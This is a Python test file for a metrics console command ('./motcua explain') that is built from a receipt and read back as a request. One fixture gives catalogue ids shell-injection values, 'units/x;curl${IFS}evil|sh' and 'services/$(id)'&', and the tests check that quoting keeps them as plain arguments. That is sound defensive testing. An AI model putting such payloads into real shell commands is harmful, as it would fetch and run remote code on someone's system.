"""The command that slips and reports show asks for just the figure of its receipt.

The command line reads it by its own options; no service is asked.
"""

import asyncio
import shlex
from collections.abc import Coroutine
from contextlib import nullcontext
from typing import Any

import pytest
from google.type.date_pb2 import Date

from motcua.metrics.v1.events_pb2 import Filter, Period, Rate, Receipt, StreamPosition
from motcua.metrics.v1.federation_pb2 import NationalReceipt
from motcua.metrics.v1.metrics_pb2 import GetRateRequest
from services.console.commands import explain
from services.pages.asking import request_of
from services.pages.questions import question_of
from services.pages.views import nation
from services.recomputing import command


def receipt() -> Receipt:
    """Of a city, a month and one position."""
    made = Receipt(
        definition="on_time.ended",
        version=2,
        period=Period(start=Date(year=2026, month=10, day=1), end=Date(year=2026, month=11, day=1)),
        positions=[StreamPosition(stream="catalog", position=9)],
    )
    made.as_of.FromJsonString("2026-10-31T17:00:00Z")
    return made


def filtered() -> Receipt:
    """Some channels and a field, in one unit."""
    made = receipt()
    made.scope.unit = "units/an-lac"
    made.scope.filters.append(Filter(dimension="channel", values=["online", "post"]))
    made.scope.filters.append(Filter(dimension="field", values=["hộ tịch"]))
    return made


def everything() -> Receipt:
    """Whatever a scope can say, as of an instant within the period."""
    made = filtered()
    made.scope.alone, made.scope.service = True, "services/khai-sinh"
    made.scope.units_time.FromJsonString("2027-02-28T17:00:00Z")
    made.as_of.FromJsonString("2026-10-20T03:04:05.678Z")
    made.positions.append(StreamPosition(stream="submissions", position=90211))
    return made


def test_the_command_names_version_unit_filters_and_positions() -> None:
    assert command(filtered()) == (
        "./motcua explain on_time.ended@2 --from 2026-10-01 --to 2026-11-01 --unit units/an-lac "
        "--where channel=online --where channel=post --where 'field=hộ tịch' "
        "--as-of 2026-10-31T17:00:00Z --as-known catalog=9"
    )


def hostile() -> Receipt:
    """Of a unit and a service whose ids are words of a shell, which the catalogue takes."""
    made = everything()
    made.scope.unit, made.scope.service = "units/x;curl${IFS}evil|sh", "services/$(id)'&"
    return made


def test_a_shell_reads_ids_of_the_catalogue_as_names() -> None:
    options = shlex.split(command(hostile()))
    assert options[options.index("--unit") + 1] == "units/x;curl${IFS}evil|sh"
    national = NationalReceipt(service="services/$(id)'&", period=receipt().period)
    options = shlex.split(nation.command(national))
    assert options[options.index("--service") + 1] == "services/$(id)'&"
    assert command(hostile()).count("'units/x;curl${IFS}evil|sh'") == 1


@pytest.mark.parametrize("made", [receipt, filtered, everything, hostile])
def test_the_command_line_reads_it_as_the_question_of_the_receipt(
    monkeypatch: pytest.MonkeyPatch, made: Any
) -> None:
    asked = []

    async def collect(_: object, request: GetRateRequest, only: object) -> tuple[Rate, list[Any]]:
        assert only is None
        asked.append(request)
        return Rate(), []

    async def nothing(*_: object) -> list[Any]:
        return []

    def run(work: Coroutine[Any, Any, None]) -> None:
        asyncio.run(work)

    monkeypatch.setattr(explain, "collect", collect)
    monkeypatch.setattr(explain, "provenance", nothing)
    monkeypatch.setattr(explain, "run", run)
    monkeypatch.setattr(explain, "reading", lambda *_: nullcontext())
    monkeypatch.setattr(explain, "Portal", lambda _: nullcontext())
    monkeypatch.setattr(explain, "show", lambda *_, **__: None)
    rate = Rate(receipt=made())
    program, name, *options = shlex.split(command(rate.receipt))
    assert (program, name) == ("./motcua", "explain")
    explain.explain.main(options, standalone_mode=False)
    wanted = request_of(question_of(rate))
    wanted.as_of.CopyFrom(rate.receipt.as_of)
    del wanted.as_known[:]
    wanted.as_known.extend(rate.receipt.positions)
    assert asked == [wanted]
